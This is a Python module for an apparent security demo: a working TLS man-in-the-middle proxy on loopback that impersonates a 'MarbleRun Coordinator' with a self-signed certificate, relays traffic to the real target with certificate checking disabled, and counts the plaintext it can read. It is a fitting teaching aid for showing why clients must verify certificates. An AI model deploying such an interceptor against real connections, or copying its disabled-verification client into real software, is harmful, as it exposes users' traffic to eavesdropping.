"""Somebody in the middle: ends TLS with a certificate of his own, passes everything on, and counts what he could read.

The attack of the demo, and as real as the rest: whoever connects through it without checking the certificate is read.
"""

import contextlib
import socket
import ssl
import tempfile
import threading
from datetime import UTC, datetime, timedelta
from ipaddress import IPv4Address
from pathlib import Path
from types import TracebackType
from typing import Self

from cryptography import x509

from pki import certificates, keys


class Eavesdropper:
    """A TLS proxy on loopback in front of `target` (HOST:PORT).  Use it with `with`; `address` is where it listens.

    overheard: bytes of plaintext that clients sent through it.  refused: handshakes that clients broke off.
    """

    def __init__(self, target: str) -> None:
        host, _, port = target.rpartition(":")
        self._target = (host, int(port))
        self._context = _own_context()
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self._listener.getsockname()[1]}"
        self.overheard = 0
        self.refused = 0
        self._thread = threading.Thread(target=self._accept, daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, at: TracebackType | None) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join()

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return  # closed: the demo is done with us
            with client:
                client.settimeout(5)
                self._listen_in(client)

    def _listen_in(self, client: socket.socket) -> None:
        try:
            with self._context.wrap_socket(client, server_side=True) as inside:
                first = inside.recv(65536)
                self.overheard += len(first)
                if first:
                    self._pass_on(inside, first)
        except OSError:
            self.refused += 1

    def _pass_on(self, inside: ssl.SSLSocket, first: bytes) -> None:
        blind = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        blind.check_hostname = False
        blind.verify_mode = ssl.CERT_NONE
        with socket.create_connection(self._target, 5) as raw, blind.wrap_socket(raw) as outside:
            back = threading.Thread(target=_copy, args=(outside, inside), daemon=True)
            back.start()
            outside.sendall(first)
            while more := inside.recv(65536):
                self.overheard += len(more)
                outside.sendall(more)
            outside.shutdown(socket.SHUT_RDWR)
            back.join()


def _copy(source: ssl.SSLSocket, target: ssl.SSLSocket) -> None:
    with contextlib.suppress(OSError):
        while more := source.recv(65536):
            target.sendall(more)


def _own_context() -> ssl.SSLContext:
    """TLS with a fresh self-signed certificate that has the right names, and the wrong key."""
    key = keys.generate(keys.KeyAlgorithm.EC_P384)
    name = certificates.common_name("MarbleRun Coordinator")
    now = datetime.now(UTC)  # noqa: TID251 - shell: reads the clock
    certificate = certificates.build(
        certificates.CertificateTemplate(name, ("localhost",), (IPv4Address("127.0.0.1"),)),
        public_key=key.public_key(),
        issuer_name=name,
        issuer_key=key,
        not_before=now,
        not_after=now + timedelta(days=1),
        serial=x509.random_serial_number(),
    )
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    with tempfile.TemporaryDirectory() as folder:
        both = Path(folder) / "own.pem"
        both.write_bytes(keys.private_pem(key) + certificates.pem(certificate))
        context.load_cert_chain(both)
    return context
